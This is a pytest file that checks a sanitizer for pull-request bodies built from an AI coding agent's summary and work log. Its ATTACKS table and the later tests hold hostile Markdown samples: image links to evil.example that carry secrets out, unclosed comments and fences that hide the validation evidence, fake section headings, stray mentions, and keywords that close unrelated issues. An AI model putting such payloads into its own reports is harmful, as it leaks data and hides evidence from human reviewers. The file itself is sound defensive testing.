"""The model's summary attacks the PR body as the issue describes; GitHub's own Markdown
parser (cmark-gfm, raw HTML let through as GitHub's renderer does before it sanitizes) shows
what a reviewer would see: the app's sections as headings, in order, and nothing that hides
them, fetches an image, pings a person or closes an unrelated issue."""

from __future__ import annotations

import html
import re
import time

import pytest

from tests.markdown import render
from worker.redact import Redactor
from worker.report.markdown import safe_line, safe_markdown
from worker.report.prbody import Report, render_pr_body
from worker.report.worklog import Step, WorkLog

ATTACKS = {
    "unclosed comment": "Fixed add().\n\n<!-- the rest is hidden",
    "unclosed details": "Fixed add().\n\n<details><summary>More</summary>\n\nhidden",
    "image": "Fixed.\n\n![x](https://evil.example/?d=SECRET)",
    "reference image": "Fixed. ![x][1]\n\n[1]: https://evil.example/?d=SECRET",
    "linked image": "[![x](https://evil.example/a.png)](https://evil.example/)",
    "html image": '<img src="https://evil.example/?d=SECRET">',
    "picture": '<picture><source srcset="https://evil.example/?d=S"></picture>',
    "mentions": "Thanks @octocat and @org/team!",
    "entity mention": "Thanks &#64;octocat and &commat;org/team",
    "fixes another issue": "Fixes #999",
    "closes in another repo": "Closes other/repo#5",
    "fixes by url": "fixes https://github.com/o/r/issues/3",
    "entity keyword": "F&#105;xes &#35;999",
    "own and another": "Fixes #7, #999",
    "unclosed fence": "Fixed.\n\n```python\nprint('the rest is code')",
    "unclosed tilde fence": "Fixed.\n\n~~~~\nthe rest is code",
    "fence with backtick info": "```x`\n<!--\n",
    "code span across lines": "`abc\ndef` <!-- `x`",
    "fake section": "## Validation\n\n✅ passed\n\n## Changed files\n\n- (none)",
    "setext heading": "Validation\n----------\n\nChanged files\n=============",
    "sections in containers": "> ## Validation\n\n- ## Changed files\n\n> Run\n> ---",
    "open table": "| a | b |\n|---|---|\n| <!-- | x |",
    "open quote and list": "> quoted\n- item\n\n      indented <!--",
}
SECTIONS = ["Summary", "Validation", "Changed files", "Run"]
MENTION = re.compile(r"(?<![\w])@[A-Za-z0-9]")
CLOSING = re.compile(
    r"\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?)\b[\s:]*"
    r"((?:[\w.-]+/[\w.-]+)?#\d+|GH-\d+|https?://\S+/(?:issues|pull)/\d+)",
    re.IGNORECASE,
)


def text_of(page: str) -> str:
    """What a reader sees outside code: GitHub finds mentions and references there."""
    page = re.sub(r"<pre>.*?</pre>|<code>.*?</code>", " ", page, flags=re.DOTALL)
    return html.unescape(re.sub(r"<[^>]+>", " ", page))


def body_for(summary: str, repo: str | None = "o/r") -> str:
    log = WorkLog(steps=[Step(1, "pytest -q", 1, 0.5, "1 failed")])
    log.check = Step(None, "pytest -q", 1, 0.6, "1 failed")
    report = Report(7, summary, ["pytest -q"], log, ["calc.py"], 3.0, repo=repo)
    return render_pr_body(report, Redactor())


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_summary_cannot_hide_the_evidence_or_reach_people(attack: str) -> None:
    body = body_for(ATTACKS[attack])
    page = render(body)
    assert re.findall(r"<h2>(.*?)</h2>", page) == SECTIONS, "the app's sections, in order"
    validation = page.split("<h2>Validation</h2>", 1)[1].split("<h2>", 1)[0]
    assert "<code>pytest -q</code>, run by the worker after the agent finished: ❌ failed" in (
        validation
    )
    assert "<!--" not in page
    assert "<img" not in page and "<picture" not in page and "<source" not in page
    assert page.count("<details") == 2, "the check's output and the work log, nothing else"
    assert page.count("<details") == page.count("</details>")
    assert re.search(r"<p>Fixes #7</p>\s*$", page), "the app's closing line ends the body"
    seen = text_of(page)
    assert not MENTION.search(seen)
    assert [m.group(0) for m in CLOSING.finditer(seen)] == ["Fixes #7"]


def test_a_closing_keyword_for_the_task_s_own_issue_stays() -> None:
    for own in (
        "Fixes #7",
        "closes o/r#7",
        "Resolves GH-7",
        "fixes https://github.com/o/r/issues/7",
    ):
        assert safe_markdown(own, 7, "o/r") == own
    assert safe_markdown("closes O/R#7", 7, "o/r") == "closes O/R#7"
    assert safe_markdown("closes x/y#7", 7, "o/r") != "closes x/y#7"
    assert safe_markdown("closes o/r#7", 7, None) != "closes o/r#7", "unknown repo: not own"


def test_ordinary_prose_and_code_read_as_written() -> None:
    summary = (
        "Fixed `add()` for negative numbers; mail me@example.com.\n\n"
        "- prefixes and suffixes are kept\n- see https://example.org/docs\n\n"
        "```python\nif a < b and c > d:\n    print('<tag> @octocat')\n```\n"
    )
    page = render(safe_markdown(summary, 7, "o/r"))
    assert "<code>add()</code>" in page and "me@example.com" in page
    assert "<li>prefixes and suffixes are kept</li>" in page
    assert '<pre lang="python"><code>if a &lt; b and c &gt; d:' in page
    assert "print('&lt;tag&gt; @octocat')" in page, "code keeps its text"


def test_work_log_commands_and_outputs_are_untrusted_too() -> None:
    log = WorkLog(
        steps=[
            Step(1, "git commit -m 'Fixes #999' # <!--", 0, 0.1, "<!-- fixes #12 ``` @octocat"),
            Step(2, "echo done", 0, 0.1, "done"),
        ]
    )
    body = render_pr_body(Report(7, "Done.", [], log, [], 1.0, repo="o/r"), Redactor())
    page = render(body)
    assert "<!--" not in page
    assert [m.group(0) for m in CLOSING.finditer(html.unescape(page))] == ["Fixes #7"]
    assert "<code>echo done</code>" in page, "the log after them renders"


def test_the_status_line_is_one_inert_paragraph() -> None:
    line = safe_line("```python\n<!-- x", 7, "o/r")
    assert line == "python"
    line = safe_line("# Fixed @octocat <!-- and ![x](https://evil.example/) Fixes #9\nmore")
    page = render(f"✅ Draft PR ready\n\n{line}\n\n<sub>codex task</sub>")
    assert "<h1>" not in page and "<!--" not in page and "<img" not in page
    assert "<sub>codex task</sub>" in page
    assert not MENTION.search(text_of(page)) and not CLOSING.search(text_of(page))


@pytest.mark.parametrize(
    "text",
    [
        "fixes #1" + " " * 100_000 + "x",
        "fixes #1" + ", " * 50_000,
        "@" * 100_000,
        "<!--" * 50_000,
        "> " * 50_000 + "x",
        "```\n" * 20_000,
    ],
)
def test_long_hostile_text_costs_linear_time(text: str) -> None:
    started = time.perf_counter()
    safe_markdown(text, 7, "o/r")
    assert time.perf_counter() - started < 1.0
